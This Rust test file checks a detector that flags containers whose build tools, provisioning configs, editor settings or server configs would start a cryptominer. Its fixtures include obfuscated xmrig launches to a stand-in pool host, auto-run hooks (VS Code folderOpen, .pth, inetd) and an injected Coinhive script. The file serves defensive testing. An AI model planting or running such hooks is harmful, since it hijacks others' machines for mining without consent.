//! Build tools, supervisors and servers that start what their files say, and for each kind one that starts no miner.

use super::cases::{Case, all_pass, all_stop, said};

const BUILD_TOOLS_THAT_MINE: &[Case] = &[
    (
        "COPY . /s\nRUN scons",
        &[(
            "SConstruct",
            "n = 'xm' + 'rig'\nenv.Command('a', [], 'git clone https://h/%s' % n)\nenv.Command('b', 'a', 'xmrig -o h:1')\n",
        )],
    ),
    ("COPY . /s\nRUN scons", &[("SConstruct", "env.Command('b', 'a', 'xmrig -o h:1')\n")]),
    (
        "COPY . /s\nRUN m4 /s/a.m4",
        &[("a.m4", "define(`A', `xm')define(`B', A`'rig)\nesyscmd(B -o `h:1')\n")],
    ),
    ("COPY . /s\nRUN npx gulp", &[("gulpfile.js", "a.task('b', () => x.y('xmrig -o h:1'))\n")]),
    ("COPY . /s\nRUN ./waf build", &[("wscript", "def build(b):\n  b(rule='xmrig -o h:1')\n")]),
    (
        "COPY . /s\nRUN nox",
        &[("noxfile.py", "@nox.session\ndef a(session):\n  session.run('xmrig', '-o', 'h:1')\n")],
    ),
    ("COPY . /s\nRUN fab a", &[("fabfile.py", "def a(c):\n  c.run('xmrig -o h:1')\n")]),
    (
        "COPY . /s\nRUN xmake",
        &[("xmake.lua", "on_build(function (t) os.execv('xmrig', {'-o', 'h:1'}) end)\n")],
    ),
    (
        "COPY . /s\nRUN zig build",
        &[("build.zig", "const a = b.addSystemCommand(&.{ \"xmrig\", \"-o\", \"h:1\" });\n")],
    ),
    (
        "COPY . /s\nRUN nimble a",
        &[("a.nimble", "task a, \"a\":\n  exec \"xm\" & \"rig -o h:1\"\n")],
    ),
    ("COPY . /s\nRUN dub build", &[("dub.json", "{\"preBuildCommands\": [\"xmrig -o h:1\"]}\n")]),
    (
        "COPY . /s\nRUN tox",
        &[("tox.ini", "[testenv:a]\nn = xmrig\ncommands = {[testenv:a]n} -o h:1\n")],
    ),
    (
        "COPY . /s\nRUN puppet apply a.pp",
        &[("a.pp", "$n = 'xmrig'\nexec { 'a': command => \"/opt/${n} -o h:1\" }\n")],
    ),
    (
        "COPY . /s\nCMD [\"bb\", \"a\"]",
        &[("bb.edn", "{:tasks {a (babashka.process/process [\"xmrig\" \"-o\" \"h:1\"])}}\n")],
    ),
    (
        "COPY . /s\nRUN bitbake a",
        &[("a.bb", "SRC_URI = \"git://github.com/xmrig/xmrig.git;branch=master\"\n")],
    ),
    (
        "COPY . /s\nRUN dotnet publish",
        &[(
            "a.csproj",
            "<Project><PropertyGroup><T>xmrig</T></PropertyGroup><DownloadFile SourceUrl=\"https://github.com/$(T)/$(T)\" /></Project>\n",
        )],
    ),
    (
        "COPY . /s\nRUN jupyter nbconvert --execute a.ipynb",
        &[("a.ipynb", "{\"cells\":[{\"cell_type\":\"code\",\"source\":[\"!xmrig -o h:1\"]}]}\n")],
    ),
    (
        "COPY . /s\nRUN gitlab-runner exec shell a",
        &[(".gitlab-ci.yml", "a:\n  script:\n    - xmrig -o h:1\n")],
    ),
];

const BUILD_TOOLS_THAT_DO_NOT: &[Case] = &[
    // nothing runs the tool
    ("COPY . /s\nRUN true", &[(".gitlab-ci.yml", "a:\n  script:\n    - xmrig -o h:1\n")]),
    (
        "COPY . /s\nRUN true",
        &[("a.bb", "SRC_URI = \"git://github.com/xmrig/xmrig.git;branch=master\"\n")],
    ),
    (
        "COPY . /s\nRUN bitbake a",
        &[("a.bb", "# not https://github.com/xmrig/xmrig\nHOMEPAGE = \"https://h/a\"\n")],
    ),
    (
        "COPY . /s\nRUN jupyter nbconvert --execute a.ipynb",
        &[(
            "a.ipynb",
            "{\"cells\":[{\"cell_type\":\"markdown\",\"source\":[\"!xmrig -o h:1\"]}]}\n",
        )],
    ),
    (
        "COPY . /s\nRUN scons",
        &[("SConstruct", "env.Command('v', [], 'git describe --always > $TARGET')\n")],
    ),
    ("COPY . /s\nRUN npx gulp", &[("gulpfile.js", "a.task('b', () => x.y('killall xmrig'))\n")]),
    ("COPY . /s\nRUN nox", &[("noxfile.py", "def a(session):\n  session.run('pytest', '-q')\n")]),
];

#[test]
fn files_of_build_tools_run_what_they_name() {
    all_stop("STOP[min", BUILD_TOOLS_THAT_MINE);
    all_pass(BUILD_TOOLS_THAT_DO_NOT);
}

const PROVISIONING_THAT_MINES: &[Case] = &[
    (
        "COPY . /srv/salt\nRUN salt-call --local state.apply",
        &[("a.sls", "{% set n = 'xm' ~ 'rig' %}\na:\n  cmd.run:\n    - name: {{ n }} -o h:1\n")],
    ),
    (
        "COPY . /srv/salt\nRUN salt-call --local state.apply",
        &[("a.sls", "xmrig:\n  pkg.installed\n")],
    ),
    (
        "COPY . /srv/salt\nRUN salt-call --local state.apply\nCMD [\"/opt/a\"]",
        &[(
            "a.sls",
            "/opt/a:\n  file.managed:\n    - contents: |\n        #!/bin/sh\n        xmrig -o h:1\n",
        )],
    ),
    (
        "COPY cookbooks /c/cookbooks\nRUN chef-solo -o 'recipe[a]'",
        &[(
            "cookbooks/a/recipes/default.rb",
            "t = %w[xm rig].join\nremote_file '/a' do\n  source \"https://github.com/#{t}/#{t}\"\nend\n",
        )],
    ),
    (
        "COPY a /a\nRUN ansible-playbook -c local /a/site.yml",
        &[(
            "a/site.yml",
            "- hosts: all\n  vars:\n    n: \"{{ 'eG1yaWc=' | b64decode }}\"\n  tasks:\n    - shell: \"{{ n }} -o h:1\"\n",
        )],
    ),
    ("COPY . /s\nRUN earthly +a", &[("Earthfile", "a:\n  RUN xmrig -o h:1\n")]),
    (
        "COPY a.def /s/\nRUN apptainer build a.sif /s/a.def",
        &[("a.def", "Bootstrap: docker\n%post\n  xmrig -o h:1\n")],
    ),
    (
        "COPY user-data /var/lib/cloud/seed/nocloud/",
        &[("user-data", "#cloud-config\nruncmd:\n  - [xmrig, -o, 'h:1']\n")],
    ),
    (
        "COPY a.container /etc/containers/systemd/",
        &[("a.container", "[Container]\nImage=docker.io/metal3d/xmrig\nExec=-o h:1\n")],
    ),
    (
        "COPY a.yaml /var/lib/rancher/k3s/server/manifests/",
        &[("a.yaml", "kind: HelmChart\nspec:\n  valuesContent: |-\n    image: metal3d/xmrig\n")],
    ),
    (
        "COPY a.hcl /j/\nCMD [\"nomad\", \"job\", \"run\", \"/j/a.hcl\"]",
        &[(
            "a.hcl",
            "config {\n  command = \"/opt/a\"\n  args = [\"-o\", \"stratum+tcp://h:1\"]\n}\n",
        )],
    ),
    (
        "COPY a.json /consul/config/",
        &[("a.json", "{\"check\": {\"args\": [\"/opt/a\", \"-o\", \"stratum+tcp://h:1\"]}}\n")],
    ),
];

const PROVISIONING_THAT_DOES_NOT: &[Case] = &[
    (
        "COPY . /srv/salt\nRUN salt-call --local state.apply",
        &[(
            "a.sls",
            "a:\n  cmd.run:\n    - name: pkill xmrig\n  file.absent:\n    - name: /tmp/xmrig\n",
        )],
    ),
    (
        "COPY . /srv/salt\nRUN salt-call --local state.apply",
        &[("a.sls", "xmrig:\n  pkg.removed\n")],
    ),
    (
        "COPY cookbooks /c/cookbooks\nRUN chef-solo -o 'recipe[a]'",
        &[(
            "cookbooks/a/recipes/default.rb",
            "t = %w[ngi nx].join\nfile '/etc/a' do\n  content \"user #{t}\"\nend\n",
        )],
    ),
    (
        "COPY a /a\nRUN ansible-playbook -c local /a/site.yml",
        &[(
            "a/site.yml",
            "- hosts: all\n  vars:\n    n: nginx\n  tasks:\n    - copy:\n        dest: /etc/systemd/system/a.service\n        content: |\n          [Service]\n          ExecStart=/usr/sbin/{{ n }} -g 'daemon off;'\n",
        )],
    ),
    (
        "COPY user-data /var/lib/cloud/seed/nocloud/",
        &[("user-data", "#cloud-config\npackages: [nginx]\nruncmd:\n  - pkill xmrig\n")],
    ),
    (
        "COPY a.hcl /j/\nCMD [\"nomad\", \"job\", \"run\", \"/j/a.hcl\"]",
        &[("a.hcl", "config {\n  image = \"nginx:1.27\"\n  args = [\"-g\", \"daemon off;\"]\n}\n")],
    ),
    ("COPY a.def /s/", &[("a.def", "%post\n  xmrig -o h:1\n")]),
];

#[test]
fn provisioning_runs_what_it_says() {
    all_stop("STOP[min", PROVISIONING_THAT_MINES);
    all_pass(PROVISIONING_THAT_DOES_NOT);
}

#[test]
fn a_unit_that_a_playbook_writes_starts_its_program() {
    let playbook = "- hosts: all\n  tasks:\n    - copy:\n        dest: /etc/systemd/system/a.service\n        content: |\n          [Service]\n          ExecStart=/opt/{{ n }} -o stratum+tcp://h:1\n";
    let files = [("a/site.yml", playbook)];
    let out = said("default", "COPY a /a\nRUN ansible-playbook -c local /a/site.yml", &files);
    assert!(out.contains("STOP[mining-pool]"), "{out}");
}

#[test]
fn a_file_that_a_tool_is_given_by_an_option_is_its_file() {
    let recipe = "all:\n\txmrig -o h:1\n";
    for command in ["make -f a.py", "make -fa.py all", "make --file=a.py"] {
        let lines = format!("COPY a.py /s/\nRUN cd /s && {command}");
        let out = said("default", &lines, &[("a.py", recipe)]);
        assert!(out.contains("STOP[miner-command]"), "{command}: {out}");
    }
    // a target, and a program that has the same lines in a text
    let out = said("default", "COPY a.py /s/\nRUN cd /s && make a.py", &[("a.py", "x = 1\n")]);
    assert!(!out.contains("STOP"), "{out}");
}

#[test]
fn a_makefile_is_read_by_make_whatever_its_first_line_says() {
    let text = "#!/usr/bin/env bash\nall:\n\t$(GO) build\n\txmrig -o h:1\n";
    let out = said("default", "COPY . /s\nRUN make", &[("Makefile", text)]);
    assert!(out.contains("STOP[miner-command]") && !out.contains("obfuscated"), "{out}");
    let script = [("Makefile", "#!/bin/sh\nxmrig -o h:1\n")];
    let out = said("default", "COPY Makefile /\nRUN chmod +x /Makefile && /Makefile", &script);
    assert!(out.contains("STOP[miner-command]"), "{out}");
}

#[test]
fn editors_and_servers_start_what_their_files_say() {
    all_stop(
        "STOP[min",
        &[
            (
                "COPY ws /ws",
                &[(
                    "ws/.vscode/tasks.json",
                    r#"{"tasks": [{"command": "xmrig", "args": ["-o", "h:1"], "runOptions": {"runOn": "folderOpen"}}]}"#,
                )],
            ),
            (
                "COPY vimrc.local /etc/vim/vimrc.local",
                &[(
                    "vimrc.local",
                    "autocmd VimEnter * call job_start(['sh', '-c', 'xm' . 'rig -o ' . s:h])\n",
                )],
            ),
            (
                "COPY a.conf /usr/local/apache2/conf/extra/a.conf",
                &[(
                    "a.conf",
                    "Substitute \"s|</body>|<script src='https://coinhive.com/lib/miner.min.js'></script>|i\"\n",
                )],
            ),
            (
                "COPY site/ /usr/local/lib/python3.12/site-packages/",
                &[("site/a.pth", "import os; os.system('xmrig -o h:1')\n")],
            ),
            (
                "COPY a.sh list /\nCMD [\"sh\", \"/a.sh\"]",
                &[
                    ("list", "$a = \"xmrig -o h:1\"\n"),
                    ("a.sh", "$(sed -n 's/.*$a = \"\\(.*\\)\"/\\1/p' /list)\n"),
                ],
            ),
            ("COPY f /f\nRUN mv /f /etc/profile.d/f", &[("f", "xmrig -o h:1\n")]),
            (
                "COPY interfaces /etc/network/interfaces",
                &[("interfaces", "iface eth0 inet dhcp\n  post-up xmrig -o h:1\n")],
            ),
            (
                "COPY inetd.conf /etc/",
                &[("inetd.conf", "a stream tcp nowait root /opt/xmrig xmrig -o h:1\n")],
            ),
        ],
    );
    all_pass(&[
        (
            "COPY ws /ws",
            &[(
                "ws/.vscode/tasks.json",
                r#"{"tasks": [{"command": "xmrig", "args": ["--help"], "runOptions": {"runOn": "default"}}]}"#,
            )],
        ),
        (
            "COPY vimrc.local /etc/vim/vimrc.local",
            &[("vimrc.local", "let s:a = system('git ' . s:command)\nset noautoindent\n")],
        ),
        (
            "COPY a.conf /usr/local/apache2/conf/extra/a.conf",
            &[("a.conf", "Substitute \"s|http:|https:|i\"\n")],
        ),
        (
            "COPY interfaces /etc/network/interfaces",
            &[(
                "interfaces",
                "iface eth0 inet dhcp\n  post-up ip route add default via 192.0.2.1\n",
            )],
        ),
        (
            "COPY coinminer.ndb /var/lib/clamav/coinminer.ndb",
            &[("coinminer.ndb", "Miner.A:0:*:786d726967\n")],
        ),
    ]);
}
